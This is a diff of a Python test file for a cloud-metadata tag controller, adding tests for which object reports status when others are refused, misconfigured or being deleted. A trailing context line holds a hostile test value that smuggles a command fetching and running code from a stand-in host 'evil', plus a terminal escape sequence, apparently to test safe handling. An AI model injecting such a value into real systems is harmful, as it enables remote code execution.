@@ -100,6 +100,50 @@ async def test_a2_a_stranger_without_a_grant_does_not_speak_for_our_tags(lab: La
     assert lab.objects.objects["CloudMetadata", Key("evil", "evil")]["status"]["reason"] == "ReferenceNotGranted"
 
 
+REFUSED = {"classifiers": {"env": "x"}}
+"""A classifier among the tags."""
+
+
+async def test_a_refused_object_does_not_speak_where_another_one_acts(lab: Lab) -> None:
+    """The older one is refused; the tags of the AWSMetadata are as wanted, and it says so, in one and the same way."""
+    lab.groups(1)
+    await lab.tags("tags", WANTED)
+    await lab.cloud("old", "tags", **REFUSED)
+    await lab.cloud("metadata", "tags")
+    await lab.settle("old", "metadata")
+    assert lab.condition("Ready", name="old")[1] == "InvalidTags"
+    told = lab.status("AWSMetadata", "tags")
+    assert (told["status"], told["resourcetags"]) == ("True", WANTED)
+    lab.wait()
+    lab.objects.written.clear()
+    await lab.settle("metadata", "old")
+    assert lab.objects.written == []
+    await lab.edit("CloudMetadata", "old", {"classifiers": {"env": None, "no such": "resource"}})
+    await lab.settle("metadata", "old")
+    assert lab.status("AWSMetadata", "tags")["message"].startswith("no resource with these classifiers")
+
+
+async def test_where_all_are_refused_the_oldest_one_speaks(lab: Lab) -> None:
+    await lab.tags("tags", WANTED)
+    await lab.cloud("old", "tags", **REFUSED)
+    await lab.cloud("metadata", "tags", controllerconfig={"syncevery": "nonsense"})
+    await lab.work("metadata")
+    assert lab.status("AWSMetadata", "tags") == {}
+    await lab.work("old")
+    assert lab.condition("Applied", "AWSMetadata", "tags")[1] == "InvalidTags"
+
+
+async def test_an_older_object_that_is_in_deletion_does_not_keep_the_others_from_speaking(lab: Lab) -> None:
+    """It is not worked on any more, and may stay for long."""
+    lab.groups(1)
+    await lab.tags("tags", WANTED)
+    await lab.cloud("old", "tags")
+    await lab.cloud("metadata", "tags")
+    lab.object("CloudMetadata", "old")["metadata"]["deletionTimestamp"] = "2026-11-23T00:00:00Z"
+    await lab.settle()
+    assert lab.status("AWSMetadata", "tags")["resourcetags"] == WANTED
+
+
 EVIL = "u $(curl${IFS}evil|sh)\n\x1b[2J s"
 
 
